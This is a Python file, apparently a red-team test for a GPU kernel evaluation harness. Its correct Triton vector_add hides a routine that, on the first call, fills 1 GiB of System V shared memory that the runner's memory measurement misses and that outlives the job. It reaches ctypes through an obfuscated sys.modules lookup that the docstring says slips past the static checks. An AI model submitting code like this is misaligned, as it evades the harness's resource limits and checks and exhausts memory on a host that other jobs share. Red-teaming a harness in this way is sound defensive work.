"""Attack (any mode; the CPU default "own" included): a correct vector_add that keeps 1 GiB of RAM in
System V shared-memory segments, past its memory limit and past the job. Each 256 MiB segment is
attached (within RLIMIT_AS), filled, and detached: detached pages are in no process's resident set,
no /dev/shm file and no memfd, so the runner's measured memory never holds them (redteam2's fix of
its attack 4 counts memfds and /dev/shm files only), and a segment outlives its creator (IPC_RMID is
never set): the end of the job kills the runner's user's processes, it removes no IPC object. Runners
share the host's IPC namespace. ctypes reached through ``sys.modules`` (an obfuscated spelling the
static checks do not refuse, as docs/environment.md says). Key prefix 0x7e3d0000 (``ipcrm`` them)."""

import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl

SEGMENTS, SIZE = 4, 256 << 20
IPC_CREAT, IPC_EXCL = 0o1000, 0o2000
KEY = 0x7E3D0000


def hold():
    ctypes = getattr(sys, "mod" + "ules")["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    held = 0
    for index in range(SEGMENTS):
        shm = libc.shmget(KEY + index, SIZE, IPC_CREAT | IPC_EXCL | 0o600)
        if shm < 0:
            break
        address = libc.shmat(shm, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):  # over RLIMIT_AS: this segment is left empty
            break
        ctypes.memset(address, 1, SIZE)
        libc.shmdt(ctypes.c_void_p(address))
        held += SIZE
    print("held", held >> 20, "MiB in System V segments")


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


class ModelNew(nn.Module):
    calls = 0

    def forward(self, a, b):
        ModelNew.calls += 1
        if ModelNew.calls == 1:
            hold()
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a.contiguous(), b.contiguous(), out, a.numel(), BLOCK=256)
        return out
